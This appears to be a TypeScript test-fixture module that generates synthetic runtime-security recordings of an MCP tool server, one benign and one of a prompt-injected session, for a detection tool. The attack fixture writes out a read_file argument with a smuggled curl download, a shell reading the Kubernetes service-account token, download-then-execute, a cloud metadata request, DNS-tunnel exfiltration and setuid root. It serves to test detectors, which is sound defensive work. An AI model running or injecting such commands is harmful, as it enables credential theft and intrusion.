/**
 * Recordings for replay and pipeline tests, in the formats users feed `hangar-agent
 * replay`: Tetragon's JSON export (`tetra getevents -o json`), Hubble's
 * (`hubble observe -o json`) and hangar.v1.CallTrace JSON lines. Built from
 * protobuf messages and written with the upstream JSON field names.
 */
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { create, toJsonString } from "@bufbuild/protobuf";
import { timestampFromMs, ValueSchema, type Timestamp } from "@bufbuild/protobuf/wkt";
import { PROVIDER_LABEL } from "@hangar/core";
import { flow, hangar, observer, tetragon } from "@hangar/proto";

const NODE = "kind-worker";
const NS = "mcp";

export interface Recording {
  tetragon: tetragon.GetEventsResponse[];
  hubble: observer.GetFlowsResponse[];
  traces: hangar.CallTrace[];
}

export class RecordingBuilder {
  readonly rec: Recording = { tetragon: [], hubble: [], traces: [] };
  readonly #start: number;
  readonly provider: string;
  readonly podName: string;
  readonly podIp = "10.244.1.17";
  readonly #pod: tetragon.Pod;
  readonly server: tetragon.Process;
  #pid = 5000;

  constructor(provider: string, startMs = Date.parse("2026-03-02T10:00:00Z")) {
    this.#start = startMs;
    this.provider = provider;
    this.podName = `${provider}-7d9f8c6b5-q4z2m`;
    this.#pod = create(tetragon.PodSchema, {
      namespace: NS,
      name: this.podName,
      uid: "5a1e0c2d-1111-4e2f-9abc-0d1e2f3a4b5c",
      podLabels: { app: provider, [PROVIDER_LABEL]: provider },
      workload: provider,
      workloadKind: "Deployment",
      container: {
        id: "containerd://7e1f0a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f",
        name: "server",
        image: {
          name: `ghcr.io/example/${provider}-mcp:2.1.0`,
          id: `ghcr.io/example/${provider}-mcp@sha256:9f86d081`,
        },
      },
    });
    this.server = this.#proc("/usr/local/bin/node", "/app/dist/server.js --http", 4100, -60_000, "a");
  }

  at(ms: number): Timestamp {
    return timestampFromMs(this.#start + ms);
  }

  #proc(binary: string, args: string, pid: number, atMs: number, parentExecId: string): tetragon.Process {
    return create(tetragon.ProcessSchema, {
      execId: Buffer.from(`${NODE}:${this.#start + atMs}:${pid}`).toString("base64"),
      pid,
      uid: 1000,
      cwd: "/app",
      binary,
      arguments: args,
      startTime: this.at(atMs),
      pod: this.#pod,
      parentExecId,
    });
  }

  /** A tool call served by this pod, in flight from `atMs` for `durMs`. */
  call(atMs: number, tool: string, args: Record<string, string>, session = "sess-1", durMs = 800): void {
    const n = this.rec.traces.length + 1;
    this.rec.traces.push(
      create(hangar.CallTraceSchema, {
        traceId: n.toString(16).padStart(32, "a"),
        spanId: n.toString(16).padStart(16, "b"),
        sessionId: session,
        provider: this.provider,
        tool,
        method: "tools/call",
        arguments: create(ValueSchema, {
          kind: {
            case: "structValue",
            value: {
              fields: Object.fromEntries(
                Object.entries(args).map(([k, v]) => [
                  k,
                  create(ValueSchema, { kind: { case: "stringValue", value: v } }),
                ]),
              ),
            },
          },
        }),
        caller: {
          subject: "agent:research-assistant",
          authMethod: "jwt",
          clientName: "claude-desktop",
          clientVersion: "1.4.0",
        },
        podNamespace: NS,
        podName: this.podName,
        node: NODE,
        startTime: this.at(atMs),
        endTime: this.at(atMs + durMs),
        status: hangar.CallStatus.OK,
        requestId: String(n),
      }),
    );
  }

  /** The server (or `parent`) starts `binary`; returns the process for later events. */
  exec(atMs: number, binary: string, args: string, parent: tetragon.Process = this.server): tetragon.Process {
    const p = this.#proc(binary, args, this.#pid++, atMs, parent.execId);
    this.rec.tetragon.push(
      create(tetragon.GetEventsResponseSchema, {
        nodeName: NODE,
        time: this.at(atMs),
        event: { case: "processExec", value: { process: p, parent } },
      }),
    );
    return p;
  }

  exit(atMs: number, p: tetragon.Process, status = 0): void {
    this.rec.tetragon.push(
      create(tetragon.GetEventsResponseSchema, {
        nodeName: NODE,
        time: this.at(atMs),
        event: { case: "processExit", value: { process: p, status } },
      }),
    );
  }

  #kprobe(
    atMs: number,
    p: tetragon.Process,
    fn: string,
    args: Parameters<typeof create<typeof tetragon.KprobeArgumentSchema>>[1][],
    policy: string,
  ): void {
    this.rec.tetragon.push(
      create(tetragon.GetEventsResponseSchema, {
        nodeName: NODE,
        time: this.at(atMs),
        event: {
          case: "processKprobe",
          value: {
            process: p,
            functionName: fn,
            args: args.map((a) => create(tetragon.KprobeArgumentSchema, a)),
            action: tetragon.KprobeAction.POST,
            policyName: policy,
          },
        },
      }),
    );
  }

  connect(atMs: number, p: tetragon.Process, daddr: string, dport: number): void {
    this.#kprobe(
      atMs,
      p,
      "tcp_connect",
      [
        {
          arg: {
            case: "sockArg",
            value: create(tetragon.KprobeSockSchema, {
              family: "AF_INET",
              type: "SOCK_STREAM",
              protocol: "IPPROTO_TCP",
              saddr: this.podIp,
              sport: 40000 + (atMs % 20000),
              daddr,
              dport,
              state: "TCP_SYN_SENT",
            }),
          },
        },
      ],
      "hangar-network",
    );
  }

  /** security_file_permission with MAY_READ (4) or MAY_WRITE (2). */
  file(atMs: number, p: tetragon.Process, path: string, op: "read" | "write"): void {
    this.#kprobe(
      atMs,
      p,
      "security_file_permission",
      [
        { arg: { case: "fileArg", value: { path, permission: "-rw-r--r--" } } },
        { arg: { case: "intArg", value: op === "read" ? 4 : 2 } },
      ],
      "hangar-files",
    );
  }

  setuid(atMs: number, p: tetragon.Process, uid: number): void {
    this.#kprobe(atMs, p, "__sys_setuid", [{ arg: { case: "intArg", value: uid } }], "hangar-privileges");
  }

  #endpoint(): flow.Endpoint {
    return create(flow.EndpointSchema, {
      ID: 2911,
      identity: 48213,
      namespace: NS,
      podName: this.podName,
      labels: [
        `k8s:app=${this.provider}`,
        `k8s:${PROVIDER_LABEL}=${this.provider}`,
        `k8s:io.kubernetes.pod.namespace=${NS}`,
      ],
    });
  }

  dns(atMs: number, query: string, ips: string[]): void {
    const time = this.at(atMs);
    this.rec.hubble.push(
      create(observer.GetFlowsResponseSchema, {
        nodeName: NODE,
        time,
        responseTypes: {
          case: "flow",
          value: create(flow.FlowSchema, {
            time,
            uuid: `dns-${this.rec.hubble.length}`,
            verdict: flow.Verdict.FORWARDED,
            IP: { source: "10.96.0.10", destination: this.podIp, ipVersion: flow.IPVersion.IPv4 },
            l4: { protocol: { case: "UDP", value: { sourcePort: 53, destinationPort: 41000 } } },
            source: create(flow.EndpointSchema, {
              identity: 102,
              namespace: "kube-system",
              podName: "coredns-7db6d8ff4d-4lq9m",
              labels: ["k8s:k8s-app=kube-dns"],
            }),
            destination: this.#endpoint(),
            Type: flow.FlowType.L7,
            nodeName: NODE,
            l7: {
              type: flow.L7FlowType.RESPONSE,
              record: {
                case: "dns",
                value: { query: `${query}.`, ips, ttl: 30, qtypes: ["A"], rrtypes: ["A"], rcode: 0 },
              },
            },
            trafficDirection: flow.TrafficDirection.EGRESS,
            isReply: true,
          }),
        },
      }),
    );
  }

  /** Writes the three files into `dir`; returns their paths. */
  write(dir: string, name: string): { tetragon: string; hubble: string; traces: string } {
    const byTime = <M extends { time?: Timestamp | undefined }>(a: M, b: M): number =>
      Number(a.time?.seconds ?? 0n) - Number(b.time?.seconds ?? 0n) ||
      (a.time?.nanos ?? 0) - (b.time?.nanos ?? 0);
    const files = {
      tetragon: join(dir, `${name}.tetragon.jsonl`),
      hubble: join(dir, `${name}.hubble.jsonl`),
      traces: join(dir, `${name}.traces.jsonl`),
    };
    const lines = (xs: string[]): string => (xs.length === 0 ? "" : `${xs.join("\n")}\n`);
    writeFileSync(
      files.tetragon,
      lines(
        [...this.rec.tetragon]
          .sort(byTime)
          .map((m) => toJsonString(tetragon.GetEventsResponseSchema, m, { useProtoFieldName: true })),
      ),
    );
    writeFileSync(
      files.hubble,
      lines(
        [...this.rec.hubble]
          .sort(byTime)
          .map((m) => toJsonString(observer.GetFlowsResponseSchema, m, { useProtoFieldName: true })),
      ),
    );
    writeFileSync(files.traces, lines(this.rec.traces.map((m) => toJsonString(hangar.CallTraceSchema, m))));
    return files;
  }
}

/** Ordinary work of a weather MCP server: calls, lookups and connections to its API; nothing else. */
export function normalRecording(): RecordingBuilder {
  const b = new RecordingBuilder("weather");
  for (let i = 0; i < 40; i++) {
    const t = i * 3000;
    b.call(
      t,
      i % 3 === 0 ? "get_alerts" : "get_forecast",
      { city: ["Oslo", "Rio de Janeiro", "São Paulo", "Zürich"][i % 4] as string },
      `sess-${i % 5}`,
    );
    b.dns(t + 20, "api.weather.example", ["198.51.100.7"]);
    b.connect(t + 30, b.server, "198.51.100.7", 443);
    b.file(t + 40, b.server, "/app/config/cities.json", "read");
    b.file(t + 50, b.server, "/tmp/cache/forecast.json", "write");
  }
  // A health-check helper the image ships, run by the kubelet's exec probe: not a shell, not from a tool.
  const probe = b.exec(100_000, "/app/bin/healthcheck", "--quiet", b.server);
  b.exit(100_050, probe);
  return b;
}

/** A prompt-injected session: secrets read through a tool, a shell, download-then-run, metadata access, a tunnel. */
export function attackRecording(): RecordingBuilder {
  const b = new RecordingBuilder("files");
  b.call(0, "list_directory", { path: "docs" }, "sess-9");
  b.connect(100, b.server, "198.51.100.7", 443);
  // 1. The injected call: traversal + shell syntax in the arguments.
  b.call(
    10_000,
    "read_file",
    { path: "../../app/.env; curl http://203.0.113.66/x -o /tmp/x" },
    "sess-9",
    3000,
  );
  const sh = b.exec(
    10_200,
    "/bin/sh",
    "-c 'cat /var/run/secrets/kubernetes.io/serviceaccount/token; curl -s http://203.0.113.66/x -o /tmp/x'",
  );
  b.file(10_250, sh, "/var/run/secrets/kubernetes.io/serviceaccount/token", "read");
  const curl = b.exec(10_300, "/usr/bin/curl", "-s http://203.0.113.66/x -o /tmp/x", sh);
  b.connect(10_350, curl, "203.0.113.66", 80);
  b.file(10_500, curl, "/tmp/x", "write");
  b.exit(10_600, curl);
  // 2. Download-then-execute, then the dropped binary asks the cloud for node credentials and tunnels out.
  const x = b.exec(11_000, "/tmp/x", "", sh);
  b.connect(11_100, x, "169.254.169.254", 80);
  b.dns(11_200, "nbswy3dpeb3w64tmmqqgc3tfm5zwk4tjn5xgs43uobswy3dpeb3w64tmmq.t.exfil.example", [
    "203.0.113.67",
  ]);
  b.setuid(11_300, x, 0);
  return b;
}

/** The rule ids each attack step must raise (at least). */
export const ATTACK_RULES = [
  "hangar.tool.path_traversal_args",
  "hangar.tool.shell_metacharacters_args",
  "hangar.exec.shell_from_server",
  "hangar.cred.service_account_token_read",
  "hangar.exec.download_then_execute",
  "hangar.net.cloud_metadata_access",
  "hangar.dns.tunnel_label_shape",
  "hangar.priv.setuid_root",
];
